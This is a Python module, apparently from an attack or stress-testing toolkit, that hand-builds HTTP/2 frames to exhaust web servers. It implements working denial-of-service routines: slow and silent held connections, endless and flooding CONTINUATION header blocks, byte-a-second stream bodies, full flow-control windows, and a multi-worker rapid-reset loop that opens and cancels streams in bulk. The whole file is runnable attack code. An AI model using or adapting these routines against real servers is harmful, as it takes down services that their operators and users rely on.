"""HTTP/2 frame by frame, as no client speaks it."""

import struct

from attacks import wire
from attacks.exhaustion import Hold, crowd

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK: ":method: POST" and ":scheme: https" are in the static table, and so are the names ":path" and
# ":authority".
POST = b"\x83\x87\x04\x07/report\x01\x01c"
# A field that the table is not to remember: its name and its value, both of one byte.
FIELD = b"\x00\x01x\x01y"

RESETS = 100
HELD = 1_500


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def streams(count):
    """The numbers of a client's first streams."""
    return range(1, 2 * count, 2)


def unfinished(stream):
    """A request with as much of its body as a stream may send before any of it is read."""
    pieces = (frame(DATA, 0, stream, b" " * size) for size in (16_384, 16_384, 16_384, 16_383))
    return frame(HEADERS, END_HEADERS, stream, POST) + b"".join(pieces)


HELLO = PREFACE + frame(SETTINGS)
# Four of them are all that a connection may send.
BODIES = b"".join(unfinished(stream) for stream in streams(4))


class Silent(Hold):
    """Speaks the preface, then nothing more, and so does not answer a ping."""

    alpn, opening = "h2", HELLO


class Answering(Hold):
    """Asks for nothing, but answers every ping."""

    alpn, opening = "h2", HELLO + frame(SETTINGS, ACK)

    def answer(self, data):
        # A ping that comes together with other frames, or in two pieces, is one of those that get no answer.
        is_ping = len(data) == 17 and data[3] == PING and data[4] != ACK
        return frame(PING, ACK, 0, data[9:]) if is_ping else b""


class EndlessHead(Hold):
    """A header block that goes on, a field a second."""

    alpn, pause = "h2", 1
    opening = HELLO + frame(HEADERS, END_STREAM, 1, POST)

    def trickle(self):
        return frame(CONTINUATION, 0, 1, FIELD)


class OpenStreams(Hold):
    """All streams there may be, each with a body that comes a byte a second."""

    alpn, pause = "h2", 1
    opening = HELLO + b"".join(frame(HEADERS, END_HEADERS, stream, POST) for stream in streams(64))

    def trickle(self):
        return b"".join(frame(DATA, 0, stream, b"[") for stream in streams(64))


class Continuations(Hold):
    """A header block that goes on as fast as it is taken."""

    alpn, pause = "h2", 0.002
    opening = EndlessHead.opening

    def trickle(self):
        return frame(CONTINUATION, 0, 1, FIELD * 3_000) * 4


class FullWindows(Hold):
    """Bodies on all streams that have room, none of them whole: what is not read waits in the collector."""

    alpn, opening = "h2", HELLO

    def __init__(self):
        self.is_sent = False

    def answer(self, data):
        if not self.is_sent:
            self.is_sent = True
            return BODIES
        # Once a request is answered, the next connection may begin.
        return None if data[3] == HEADERS else b""


def slow_h2(attackers, target):
    for hold in (Silent, Answering, EndlessHead):
        crowd(attackers, target.https, hold, HELD // 3, processes=1)
    crowd(attackers, target.https, OpenStreams, 100, processes=1)
    crowd(attackers, target.https, Continuations, 8, processes=1)


def full_windows(attackers, target):
    crowd(attackers, target.https, FullWindows, 3_000)


def reset_all(tally, port, number):
    """Opens streams and resets them at once, until the collector has enough; then on a new connection."""
    context = wire.tls_context("h2")
    pairs = (
        frame(HEADERS, END_HEADERS, stream, POST) + frame(RESET, 0, stream, struct.pack(">I", CANCEL))
        for stream in streams(RESETS)
    )
    attack = HELLO + b"".join(pairs)
    link = wire.Link(tally, port, number, context)
    while not tally.is_over:
        try:
            link.connect()
            link.stream.sendall(attack)
            tally.add("requests", RESETS)
            while link.stream.recv(65536):
                pass
        except OSError:
            tally.add("broken")
        finally:
            link.close()


def rapid_reset(attackers, target):
    for number in range(8):
        attackers.add(reset_all, target.https, number)
